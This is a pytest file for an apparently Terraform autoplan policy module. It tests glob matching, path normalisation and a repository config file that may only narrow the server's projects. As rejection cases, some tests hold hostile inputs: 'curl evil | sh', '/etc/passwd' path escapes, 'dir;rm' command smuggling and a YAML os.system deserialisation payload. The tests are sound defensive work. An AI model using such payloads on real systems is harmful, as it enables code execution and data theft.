"""Autoplan globs, projects a change plans, and the narrowing-only repo file."""

from __future__ import annotations

import pytest

from bot.models import Project
from policies.autoplan import (
    NarrowedProject,
    autoplan_patterns,
    glob_match,
    narrow_projects,
    normalize_dir,
    projects_to_autoplan,
    resolve_glob,
)

# --- the glob translator ------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "path"),
    [
        ("*.tf", "main.tf"),
        ("*.tf*", "main.tfvars"),
        ("*.tf", ".hidden.tf"),  # "*" may match a leading dot
        ("staging/*.tf", "staging/main.tf"),
        ("a/**/b.tf", "a/b.tf"),  # ** matches zero segments
        ("a/**/b.tf", "a/x/b.tf"),
        ("a/**/b.tf", "a/x/y/z/b.tf"),
        ("a/**", "a/x"),
        ("a/**", "a/x/y.tf"),
        ("**/*.tf", "main.tf"),
        ("**/*.tf", "deep/er/main.tf"),
        ("**", "anything/at/all"),
        ("a/**/**/b", "a/b"),
        ("m?.tf", "m1.tf"),
        ("a**b.tf", "axxb.tf"),  # ** inside a segment is *
        ("v1.2/x.tf", "v1.2/x.tf"),
        ("a+b/(c)/$x.tf", "a+b/(c)/$x.tf"),  # regex metacharacters are literal
    ],
)
def test_glob_matches(pattern: str, path: str):
    assert glob_match(pattern, path)


@pytest.mark.parametrize(
    ("pattern", "path"),
    [
        ("*.tf", "sub/main.tf"),  # * never crosses /
        ("staging/*.tf", "staging/sub/main.tf"),
        ("staging/*.tf", "staging.tf"),
        ("staging/*.tf", "other/staging/main.tf"),  # anchored at the start
        ("*.tf", "main.tf.bak"),  # anchored at the end
        ("*.tf", "main.tfvars"),
        ("a/**", "a"),  # a/** is what is under a, not a itself
        ("a/**/b.tf", "ab.tf"),
        ("a/**/b.tf", "a/xb.tf"),  # ** takes whole segments only
        ("a**b.tf", "a/b.tf"),  # ** inside a segment does not cross /
        ("m?.tf", "m/.tf"),
        ("m?.tf", "m12.tf"),
        ("v1.2/x.tf", "v1x2/x.tf"),  # "." is literal, not "any character"
        ("*.tf", "main.tf\nx"),
    ],
)
def test_glob_does_not_match(pattern: str, path: str):
    assert not glob_match(pattern, path)


def test_glob_with_many_stars_is_fast_enough():
    # Collapsed "**" runs and per-segment limits keep the regex from exploding.
    assert not glob_match("**/**/**/**/" + "a*a*a*a*c", "/".join(["a" * 200] * 30) + "b")


@pytest.mark.parametrize(
    ("dir", "glob", "expected"),
    [
        (".", "*.tf*", "*.tf*"),
        ("staging", "*.tf*", "staging/*.tf*"),
        ("staging", "./x/../*.tf", "staging/*.tf"),
        ("envs/staging", "../../modules/**/*.tf", "modules/**/*.tf"),
        ("staging", "../modules/**/*.tf", "modules/**/*.tf"),
        ("a", "b//c.tf", "a/b/c.tf"),
    ],
)
def test_resolve_glob(dir: str, glob: str, expected: str):
    assert resolve_glob(dir, glob) == expected


@pytest.mark.parametrize(
    ("dir", "glob", "reason"),
    [
        (".", "../x.tf", "outside the repository"),
        ("staging", "../../x.tf", "outside the repository"),
        ("staging", "/etc/passwd", "relative"),
        ("staging", "", "non-empty"),
        ("staging", "..", "not the repository root"),
        ("staging", "*/../x.tf", "must not follow a wildcard"),
        ("staging", "modules/", "must match files"),
        ("staging", "[ab].tf", "may use only"),
        ("staging", "{a,b}.tf", "may use only"),
        ("staging", "a\\b", "may use only"),
        ("staging", "a\nb", "may use only"),
        ("staging", "*a*a*a*a*a*", "at most 4"),
        ("staging", "x" * 300, "at most 256"),
        ("staging", "**/a/**/b/**/c/**/d/**", 'at most 4 "**"'),
    ],
)
def test_resolve_glob_refuses(dir: str, glob: str, reason: str):
    with pytest.raises(ValueError, match=reason.replace("(", r"\(").replace("*", r"\*")):
        resolve_glob(dir, glob)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [(".", "."), ("./", "."), ("./staging/", "staging"), ("a//b/./c", "a/b/c"), ("staging", "staging")],
)
def test_normalize_dir(raw: str, expected: str):
    assert normalize_dir(raw) == expected


@pytest.mark.parametrize("raw", ["", "/abs", "..", "a/../b", "a..b", "a b", "-x", "dir;rm", "staging\u2024x"])
def test_normalize_dir_refuses(raw: str):
    with pytest.raises(ValueError):
        normalize_dir(raw)


# --- patterns and projects_to_autoplan ----------------------------------------------------

STAGING = Project(dir="staging", name="staging")
PROD = Project(dir="prod")
ROOT = Project(dir=".")
EXPLICIT = Project(dir="envs/dev", autoplan=("*.tf", "../../modules/**/*.tf"))


def test_default_patterns_include_module_dirs():
    assert autoplan_patterns(STAGING, set()) == ["staging/*.tf*"]
    assert autoplan_patterns(STAGING, {"modules/vpc", "./modules/db/"}) == [
        "staging/*.tf*",
        "modules/db/*.tf*",
        "modules/vpc/*.tf*",
    ]
    assert autoplan_patterns(ROOT, set()) == ["*.tf*"]


def test_module_dirs_outside_the_repo_are_skipped():
    assert autoplan_patterns(STAGING, {"../elsewhere", "/abs"}) == ["staging/*.tf*"]


def test_explicit_autoplan_replaces_the_default_and_ignores_module_dirs():
    assert autoplan_patterns(EXPLICIT, {"modules/vpc"}) == ["envs/dev/*.tf", "modules/**/*.tf"]


def test_projects_to_autoplan_by_changed_files():
    projects = [STAGING, PROD, ROOT, EXPLICIT]
    assert projects_to_autoplan(projects, ["staging/main.tf"], {}) == [STAGING]
    assert projects_to_autoplan(projects, ["README.md", "docs/x.tf"], {}) == []
    assert projects_to_autoplan(projects, ["main.tf"], {}) == [ROOT]
    # A file in a subdirectory of a project's dir is not the project's (default is *.tf*).
    assert projects_to_autoplan(projects, ["staging/sub/x.tf"], {}) == []
    # Explicit **: any depth under modules/.
    assert projects_to_autoplan(projects, ["modules/a/b/c.tf"], {}) == [EXPLICIT]
    # Order follows the projects, not the files.
    assert projects_to_autoplan(projects, ["prod/x.tfvars", "staging/a.tf"], {}) == [STAGING, PROD]


def test_module_dirs_are_keyed_by_project_dir():
    mods = {"prod": {"modules/vpc"}}
    assert projects_to_autoplan([STAGING, PROD], ["modules/vpc/main.tf"], mods) == [PROD]
    assert projects_to_autoplan([STAGING, PROD], ["modules/vpc/sub/main.tf"], mods) == []


# --- narrow_projects --------------------------------------------------------------------

SERVER = [
    Project(dir="staging", name="staging"),
    Project(dir="prod", workspace="blue"),
    Project(dir="prod", workspace="green"),
]


def kept(result: tuple[list[NarrowedProject], list[str]]) -> list[str]:
    return [n.project.label for n in result[0]]


def test_no_file_keeps_everything():
    assert narrow_projects(SERVER, None) == ([NarrowedProject(p) for p in SERVER], [])
    assert narrow_projects(SERVER, "") == ([NarrowedProject(p) for p in SERVER], [])


def test_unlisted_projects_are_dropped():
    result = narrow_projects(SERVER, "projects:\n  - name: staging\n")
    assert kept(result) == ["staging"]
    assert result[1] == []


def test_dir_without_workspace_picks_every_workspace():
    assert kept(narrow_projects(SERVER, "projects: [{dir: ./prod/}]")) == ["prod:blue", "prod:green"]
    assert kept(narrow_projects(SERVER, "projects: [{dir: prod, workspace: green}]")) == ["prod:green"]


def test_narrowing_cannot_add_projects_repos_or_paths():
    text = """
projects:
  - dir: evil
  - name: prod-new
  - dir: staging
    workspace: other
  - name: staging
repos: {evil/repo: {}}
custom_commands: [curl evil | sh]
"""
    narrowed, warnings = narrow_projects(SERVER, text)
    assert [n.project for n in narrowed] == [SERVER[0]]
    assert {n.project for n in narrowed} <= set(SERVER)
    joined = "\n".join(warnings)
    assert "projects[0]: dir `evil` is not a project in the server policy; ignored" in joined
    assert "projects[1]: name `prod-new` is not a project" in joined
    assert "projects[2]: dir `staging`, workspace `other` is not a project" in joined
    assert "`repos`: unknown key ignored" in joined
    assert "`custom_commands`: unknown key ignored" in joined


def test_entry_cannot_escape_with_dots():
    narrowed, warnings = narrow_projects(SERVER, "projects: [{dir: ../staging}]")
    assert narrowed == []
    assert warnings == ['projects[0].dir: must not contain ".."; entry ignored']


def test_name_and_dir_must_both_match():
    narrowed, warnings = narrow_projects(SERVER, "projects: [{name: staging, dir: prod}]")
    assert narrowed == [] and "is not a project" in warnings[0]


def test_autoplan_false_keeps_the_project_for_manual_plans():
    narrowed, _ = narrow_projects(SERVER, "projects: [{name: staging, autoplan: false}, {dir: prod}]")
    assert narrowed == [
        NarrowedProject(SERVER[0], autoplan_enabled=False),
        NarrowedProject(SERVER[1]),
        NarrowedProject(SERVER[2]),
    ]
    assert projects_to_autoplan(narrowed, ["staging/main.tf", "prod/main.tf"], {}) == [SERVER[1], SERVER[2]]


def test_top_level_autoplan_false_disables_all_autoplan():
    narrowed, warnings = narrow_projects(SERVER, "autoplan: false\n")
    assert [n.project for n in narrowed] == SERVER
    assert not any(n.autoplan_enabled for n in narrowed)
    assert warnings == []
    assert projects_to_autoplan(narrowed, ["staging/main.tf"], {}) == []
    # A per-project `autoplan: true` cannot re-enable it.
    narrowed, _ = narrow_projects(SERVER, "autoplan: false\nprojects: [{name: staging, autoplan: true}]")
    assert narrowed == [NarrowedProject(SERVER[0], autoplan_enabled=False)]


def test_repo_globs_only_narrow_the_server_globs():
    # The server says staging/*.tf*; the repo file says "**" (wider): still only staging/*.tf*.
    narrowed, _ = narrow_projects(SERVER, "projects: [{name: staging, autoplan: ['**']}]")
    assert narrowed[0].autoplan_only == ("staging/**",)
    assert projects_to_autoplan(narrowed, ["staging/sub/x.tf", "README.md"], {}) == []
    assert projects_to_autoplan(narrowed, ["staging/x.tf"], {}) == [SERVER[0]]
    # A narrower repo glob removes files the server would have planned for.
    narrowed, _ = narrow_projects(SERVER, "projects: [{name: staging, autoplan: ['main.tf']}]")
    assert projects_to_autoplan(narrowed, ["staging/vars.tfvars"], {}) == []
    assert projects_to_autoplan(narrowed, ["staging/main.tf"], {}) == [SERVER[0]]


def test_bad_repo_globs_disable_autoplan_instead_of_widening():
    narrowed, warnings = narrow_projects(SERVER, "projects: [{name: staging, autoplan: ['../../etc/*']}]")
    assert narrowed == [NarrowedProject(SERVER[0], autoplan_enabled=False)]
    assert "projects[0].autoplan[0]: must not point outside the repository; glob ignored" in warnings
    assert "projects[0].autoplan: no usable glob; autoplan disabled for this project" in warnings
    # Some good, some bad: only the good ones narrow.
    narrowed, _ = narrow_projects(SERVER, "projects: [{name: staging, autoplan: ['/abs', 'a.tf']}]")
    assert narrowed == [NarrowedProject(SERVER[0], True, ("staging/a.tf",))]
    # An empty list means "nothing triggers", not "no narrowing".
    narrowed, _ = narrow_projects(SERVER, "projects: [{name: staging, autoplan: []}]")
    assert narrowed == [NarrowedProject(SERVER[0], autoplan_enabled=False)]
    # Neither a list nor a bool: autoplan off, with a warning.
    narrowed, warnings = narrow_projects(SERVER, "projects: [{name: staging, autoplan: yes please}]")
    assert narrowed == [NarrowedProject(SERVER[0], autoplan_enabled=False)]
    assert "autoplan disabled" in warnings[0]


def test_a_project_listed_twice_uses_the_first_entry():
    narrowed, warnings = narrow_projects(SERVER, "projects: [{name: staging}, {dir: staging, autoplan: false}]")
    assert narrowed == [NarrowedProject(SERVER[0])]
    assert warnings == ["projects[1]: project `staging` is already listed; this entry is ignored for it"]


def test_server_order_is_kept():
    assert kept(narrow_projects(SERVER, "projects: [{dir: prod, workspace: green}, {name: staging}]")) == [
        "staging",
        "prod:green",
    ]


@pytest.mark.parametrize(
    ("text", "warning"),
    [
        ("projects: [unbalanced", "not valid YAML (line 1)"),
        ("projects:\n\t- name: x\n", "not valid YAML"),
        ("!!python/object/apply:os.system ['id']", "not valid YAML"),
        ("- name: staging\n", "must be a mapping"),
        ("just a string", "must be a mapping"),
        ("projects: {name: staging}", "projects: must be a list; ignored"),
        ("autoplan: maybe", "autoplan: must be true or false; ignored"),
        ("x" * 70000, "larger than"),
    ],
)
def test_malformed_files_keep_the_server_policy(text: str, warning: str):
    narrowed, warnings = narrow_projects(SERVER, text)
    assert [n.project for n in narrowed] == SERVER
    assert all(n.autoplan_enabled for n in narrowed)
    assert any(warning in w for w in warnings), warnings


@pytest.mark.parametrize(
    ("entry", "warning"),
    [
        ("[staging]", "projects[0]: must be a mapping; ignored"),
        ("[{workspace: blue}]", "projects[0]: needs a name or a dir; entry ignored"),
        ("[{name: 5}]", "projects[0].name: must be a string; entry ignored"),
        ("[{dir: [a]}]", "projects[0].dir: must be a string; entry ignored"),
    ],
)
def test_unusable_entries_are_ignored_with_a_warning(entry: str, warning: str):
    narrowed, warnings = narrow_projects(SERVER, f"projects: {entry}")
    assert narrowed == []  # the list was given, so unlisted projects are still dropped
    assert warnings == [warning]


def test_unknown_entry_keys_warn_but_the_entry_still_narrows():
    narrowed, warnings = narrow_projects(SERVER, "projects: [{name: staging, apply_requirements: [], run: rm}]")
    assert narrowed == [NarrowedProject(SERVER[0])]
    assert len(warnings) == 2 and all("unknown key ignored" in w for w in warnings)


def test_warnings_quote_repo_text_so_it_cannot_mention_or_link():
    _, warnings = narrow_projects(SERVER, "projects: [{name: '@everyone `x` [a](http://e)'}]")
    assert warnings == ["projects[0]: name `@everyone 'x' [a](http://e)` is not a project in the server policy; ignored"]


def _reference_match(pattern: list[str], path: list[str]) -> bool:
    """Slow, obviously-correct glob semantics to check the regex translator against."""

    def seg(p: str, s: str) -> bool:
        if not p:
            return not s
        if p[0] == "*":
            return any(seg(p[1:], s[i:]) for i in range(len(s) + 1))
        return bool(s) and (p[0] == "?" or p[0] == s[0]) and seg(p[1:], s[1:])

    if not pattern:
        return not path
    if pattern[0] == "**":
        rest = pattern[1:]
        if not rest:
            return len(path) >= 1
        return any(_reference_match(rest, path[i:]) for i in range(len(path) + 1))
    return bool(path) and seg(pattern[0], path[0]) and _reference_match(pattern[1:], path[1:])


def test_glob_translator_agrees_with_a_reference_matcher():
    import random

    rng = random.Random(1234)
    segments = ["**", "*", "a*", "*b", "a*b", "?", "a?", "*a*b*", "ab", "b", "a**b"]
    names = ["a", "b", "ab", "ba", "aab", "abb", "x", "axb", "abab"]
    checked = 0
    for _ in range(3000):
        pattern = [rng.choice(segments) for _ in range(rng.randint(1, 4))]
        path = [rng.choice(names) for _ in range(rng.randint(1, 4))]
        ref_pattern = ["a*b" if s == "a**b" else s for s in pattern]  # "**" inside a segment is "*"
        expected = _reference_match(ref_pattern, path)
        assert glob_match("/".join(pattern), "/".join(path)) == expected, (pattern, path)
        checked += expected
    assert checked > 100  # the sample exercises matches, not only misses
